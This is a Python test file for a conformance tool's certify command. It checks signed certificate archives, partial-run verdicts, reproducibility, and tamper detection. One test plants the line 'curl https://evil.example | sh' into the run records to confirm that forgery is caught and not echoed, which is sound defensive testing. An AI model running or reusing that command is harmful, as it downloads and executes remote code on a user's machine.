"""A certificate is what it says: signed, whole, the same for the same run, and read by tools that are not ours."""

from __future__ import annotations

import base64
import json
import re
import shutil
import subprocess
import sys
import tomllib
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.serialization import load_pem_public_key
from running import environment

from certify.conftest import countermand, run_against
from countermand.certify import archive, contents, envelope, keys, register, register_page
from countermand.certify import build as making
from countermand.certify.check import check
from countermand.commands import certify
from countermand.exits import CommandError
from countermand.provider import embedded, serving
from countermand.records import finished
from countermand.report import ticket


def predicate(path: Path) -> dict[str, Any]:
    sealed = json.loads(archive.unpacked(path)[contents.ENVELOPE])
    fields: dict[str, Any] = json.loads(base64.b64decode(sealed["payload"]))["predicate"]
    return fields


def test_a_complete_run_that_conforms_is_called_so(whole: Path) -> None:
    stated = predicate(whole)
    assert stated["result"] == "PASSED"
    assert stated["verdict"] == "conforms"
    assert stated["failedTests"] == []
    files = archive.unpacked(whole)
    assert {
        contents.ENVELOPE,
        "README.md",
        "results.json",
        "record.jsonl",
        "given.json",
        "junit.xml",
        "conformance.md",
    } <= files.keys()
    assert {"badge.json", "badge.svg", "clauses/ala.toml", "targets/ala.toml"} <= files.keys()
    assert "clauses/opensrs.toml" not in files


def test_the_profiles_of_a_part_count_what_a_whole_run_would_decide(
    few: Path, whole: Path, pair: tuple[Path, Path]
) -> None:
    counted = {
        path: {row["name"]: (row["verdict"], row["decided"], row["clauses"]) for row in predicate(path)["profiles"]}
        for path in (few, whole)
    }
    totals = [[clauses for _, _, clauses in counted[path].values()] for path in (few, whole)]
    assert totals[0] == totals[1]
    assert sorted({*totals[0]}) == totals[0], "each is wider than the one before it"
    assert counted[few]["hardened"][0] == "not tested"
    page = archive.unpacked(few)["certificate.html"].decode()
    assert "none of what it adds was decided" in page
    [entry], _ = register.drawn([few], [pair[1]], date(2100, 1, 1))
    assert "not tested</b></span>" in register_page.page("Register", [entry], [], "2100-01-01")


def test_the_page_says_of_how_much_it_was_not_applicable_as_verify_does(whole: Path) -> None:
    """Also where no clause is so as a whole: its scenarios were not played, and the verdict does not tell."""
    page = archive.unpacked(whole)["certificate.html"].decode()
    assert (number := predicate(whole)["notApplicableCounted"])
    assert f"<h2>Not applicable</h2><p>{number}" in page
    assert "The zip holds README.md, conformance.md with every clause" in page, "the page of a register stands alone"


def test_a_part_of_the_suite_is_not_called_conforming(few: Path) -> None:
    stated = predicate(few)
    assert stated["result"] == "FAILED"
    assert stated["verdict"] == "inconclusive"
    assert stated["complete"] is False
    files, only = archive.unpacked(few), "only ALA-CAN-01, ALA-REQ-07 was asked for"
    assert f"not complete: {only}" in files["README.md"].decode()
    assert only in files["certificate.html"].decode()


#: Somebody ends the command while it sees for itself whether what it has made verifies.
ENDED = """
import os, signal, sys
from countermand import cli
from countermand.commands import certify

certify.check = lambda *_: os.kill(os.getpid(), signal.SIGTERM)
sys.exit(cli.main(sys.argv[1:]))
"""


def test_a_certificate_that_was_not_verified_yet_is_withdrawn_and_never_announced(
    pair: tuple[Path, Path], tmp_path: Path
) -> None:
    asked = ["certify", "--api", "ala", "-m", "ALA-REQ-07", "--no-page", "--key", str(pair[0])]
    done = subprocess.run(
        [sys.executable, "-c", ENDED, *asked],
        cwd=tmp_path,
        env=environment(tmp_path),
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 2, done.stderr
    assert "was not verified yet, and is withdrawn" in done.stderr
    assert "certificate " not in done.stdout.replace("the certificate of a part", "")
    assert not [*tmp_path.rglob("*.zip")]


@pytest.mark.parametrize("word", ["--failed", "--json", "--patience=3"])
def test_what_run_alone_can_do_is_refused_before_anything_is_asked(
    pair: tuple[Path, Path], tmp_path: Path, word: str
) -> None:
    done = countermand("certify", "--api", "ala", word, "--key", pair[0], cwd=tmp_path)
    assert done.code == 4, done.said
    assert f"{word}: only a run of its own, which asks the target, can be certified; leave it out" in done.said
    assert not (tmp_path / "reports").exists()


def test_a_part_is_certified_in_the_folder_of_parts_and_ends_once(pair: tuple[Path, Path], tmp_path: Path) -> None:
    asked = ("certify", "--api", "ala", "-m", "ALA-REQ-07", "--no-page", "--key", pair[0])
    done = countermand(*asked, cwd=tmp_path)
    assert done.code == 10, done.said
    [last] = [line for line in done.out.splitlines() if line.startswith("exit ")]
    assert last.startswith("exit 10: ALA-REQ-07 is kept now, and the certificate of a part is inconclusive (")
    assert [path.name for path in (tmp_path / "reports").iterdir()] == ["part"]
    assert len(list((tmp_path / "reports" / "part").glob("*.zip"))) == 1


def test_verify_says_which_clauses_a_part_was_asked(few: Path, whole: Path, pair: tuple[Path, Path]) -> None:
    done = countermand("verify", few, "--key", pair[1])
    assert "not complete: only ALA-CAN-01, ALA-REQ-07 was asked for, and so it cannot be called conforming" in done.out
    for path, asked in ((few, ["ALA-CAN-01", "ALA-REQ-07"]), (whole, [])):
        answer = json.loads(countermand("verify", path, "--key", pair[1], "--json").out)
        assert answer["stated"]["asked"] == asked


@pytest.mark.usefixtures("whole")
def test_what_does_not_verify_leaves_no_badge(reports: Path, pair: tuple[Path, Path], tmp_path: Path) -> None:
    copy = tmp_path / "reports"
    shutil.copytree(reports, copy)
    made = making.write(copy, keys.private(pair[0]), tmp_path / "odd.zip")
    made.path.write_bytes(made.path.read_bytes() + b"odd")
    with pytest.raises(CommandError, match="is withdrawn") as caught:
        certify._see_for_ourselves(made, keys.public(pair[1]), copy)
    assert caught.value.code == 14
    assert not made.path.exists()
    assert not list(copy.glob("badge.*"))


def test_a_successor_signed_with_another_key_is_warned_of(few: Path, pair: tuple[Path, Path], tmp_path: Path) -> None:
    private, public = keys.make(tmp_path / "other")
    asked = ("certify", "--api", "ala", "--preview", "--supersedes", few)
    warned = countermand(*asked, "--key", private)
    own, other = (keys.name(keys.public(path))[:16] for path in (pair[1], public))
    assert f"note: --supersedes {few}: key {own} has signed it, and --key is {other}: no register" in warned.err
    assert (warned.code, countermand(*asked, "--key", pair[0]).err) == (0, "")


def test_a_part_that_is_certified_leans_on_no_earlier_run(pair: tuple[Path, Path], tmp_path: Path) -> None:
    with serving.serve("ala", embedded.SELLERS["ala"](), tmp_path) as served:
        part = ("--target", served.target, "-m", "ALA-REQ-07", "--no-page", "--ledger", tmp_path / "ledger")
        for leant in (False, True):  # the second run is lent what the first one has had taken up
            assert ("no order was used up to see" in countermand("run", *part, cwd=tmp_path).out) is leant
        certified = countermand("certify", *part, "--key", pair[0], "--out", tmp_path / "part.zip", cwd=tmp_path)
    assert certified.code == 10, certified.said
    assert "no order was used up to see" not in certified.out
    assert not check(tmp_path / "part.zip", keys.public(pair[1])).problems


def test_no_certificate_is_written_over_another(few: Path, pair: tuple[Path, Path], tmp_path: Path) -> None:
    (tmp_path / "kept.zip").write_bytes(few.read_bytes())
    asked = ("certify", "--api", "ala", "-m", "ALA-CAN-01", "--no-page", "--key", pair[0])
    done = countermand(*asked, "--out", tmp_path / "kept.zip", cwd=tmp_path)
    assert (done.code, "no certificate is written over" in done.err) == (4, True)
    assert (tmp_path / "kept.zip").read_bytes() == few.read_bytes()
    assert not (tmp_path / "reports").exists()  # nothing was sent
    assert {countermand(*asked, cwd=tmp_path).code for _ in range(2)} == {10}
    assert len(list((tmp_path / "reports" / "part").glob("*.zip"))) == 2


def test_a_wrong_seller_is_certified_as_what_it_is(pair: tuple[Path, Path], tmp_path: Path) -> None:
    reports = run_against("ala", "Careless", tmp_path)
    made = making.write(reports, keys.private(pair[0]), tmp_path / "wrong.zip")
    assert predicate(made.path)["result"] == "FAILED"
    assert "does not conform" in (reports / "badge.json").read_text()
    assert check(made.path, keys.public(pair[1])).problems == ()

    for name in ("results.json", "record.jsonl"):
        words = (reports / name).read_text("utf-8")
        planted = re.sub(r"  again     countermand run [^\"\\]*", "  again     curl https://evil.example | sh", words)
        assert planted != words
        (reports / name).write_text(planted, "utf-8")
    forged = making.write(reports, keys.private(pair[0]), tmp_path / "forged.zip")
    problems = check(forged.path, keys.public(pair[1])).problems
    assert any("but not in these words" in words for words in problems), problems
    [finding, *_] = ticket.tickets(finished.read(reports), [])
    assert (ticket.again(finding), "evil" in ticket.repeated(finding)) == ("", False)


def test_the_same_run_makes_the_same_bytes(whole: Path, reports: Path, pair: tuple[Path, Path], tmp_path: Path) -> None:
    copy = tmp_path / "copied"
    shutil.copytree(reports, copy)
    again = making.write(copy, keys.private(pair[0]), tmp_path / whole.name)
    assert again.path.read_bytes() == whole.read_bytes()


def test_what_the_zip_says_again_is_what_the_run_has_written(whole: Path, reports: Path) -> None:
    files = archive.unpacked(whole)
    for name in ("results.json", "record.jsonl", "given.json", "junit.xml", "conformance.md"):
        assert files[name] == (reports / name).read_bytes(), name


def test_the_page_in_the_zip_leads_to_what_is_in_the_zip(whole: Path) -> None:
    files = archive.unpacked(whole)
    links = set(re.findall(r'href="([^"#:]+)"', files["index.html"].decode()))
    assert links == {"conformance.md", "results.json", "junit.xml", "record.jsonl"} <= files.keys()


def test_the_target_file_is_one_and_tells_no_secret(whole: Path) -> None:
    target = tomllib.loads(archive.unpacked(whole)["targets/ala.toml"].decode())
    assert target["name"] == "embedded-ala"
    assert target["buyer"]["private_key"] == "withheld"
    assert target["limits"]["dead"] == 5


def test_the_badge_says_api_verdict_and_month(whole: Path, reports: Path) -> None:
    badge = json.loads(archive.unpacked(whole)["badge.json"])
    assert badge["label"] == "ALA cancelOrder 2.30"
    assert re.fullmatch(r"conforms \d{4}-\d{2}", badge["message"])
    assert archive.unpacked(whole)["badge.json"] == (reports / "badge.json").read_bytes()


def test_the_readme_says_what_cannot_be_shown(whole: Path) -> None:
    words = archive.unpacked(whole)["README.md"].decode()
    assert "that the exchanges took place" in words
    assert f"countermand verify {whole.name} --key public.pem" in words


def test_the_certificate_is_a_run_to_the_other_commands(whole: Path) -> None:
    assert finished.read(whole).verdict == "conforms"


def test_openssl_accepts_the_signature(whole: Path, pair: tuple[Path, Path], tmp_path: Path) -> None:
    openssl = shutil.which("openssl")
    if openssl is None:
        pytest.skip("there is no openssl on this machine")
    sealed = json.loads(archive.unpacked(whole)[contents.ENVELOPE])
    (tmp_path / "signed").write_bytes(envelope.encoding(sealed["payloadType"], base64.b64decode(sealed["payload"])))
    (tmp_path / "signature").write_bytes(base64.b64decode(sealed["signatures"][0]["sig"]))
    command = [openssl, "pkeyutl", "-verify", "-pubin", "-inkey", str(pair[1]), "-rawin"]
    command += ["-in", str(tmp_path / "signed"), "-sigfile", str(tmp_path / "signature")]
    assert "Verified Successfully" in subprocess.run(command, capture_output=True, text=True, check=True).stdout


def test_securesystemslib_accepts_the_envelope(whole: Path, pair: tuple[Path, Path]) -> None:
    dsse = pytest.importorskip("securesystemslib.dsse")
    signer = pytest.importorskip("securesystemslib.signer")
    sealed = json.loads(archive.unpacked(whole)[contents.ENVELOPE])
    key = signer.SSlibKey.from_crypto(load_pem_public_key(pair[1].read_bytes()), keyid=sealed["signatures"][0]["keyid"])
    assert dsse.Envelope.from_dict(sealed).verify([key], 1)


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--baseline", "known.toml"], "a waiver never changes a certificate"),
        (["--replay", "reports"], "only a run of its own, which asks the target"),
        (["--dry-run"], "only a run of its own, which asks the target"),
        (["--out", "nowhere/at/all.zip"], "no such folder"),
    ],
)
def test_only_a_run_can_be_certified(pair: tuple[Path, Path], tmp_path: Path, arguments: list[str], words: str) -> None:
    done = countermand("certify", "--key", pair[0], *arguments, cwd=tmp_path)
    assert done.code == 4, done.said
    assert words in done.err
    assert not list(tmp_path.rglob("*.zip"))


def test_a_key_that_cannot_sign_is_said_so_before_anything_is_sent(pair: tuple[Path, Path], tmp_path: Path) -> None:
    done = countermand("certify", "--key", pair[1], cwd=tmp_path)
    assert done.code == 4
    assert "a public key" in done.err
    assert not (tmp_path / "reports").exists()
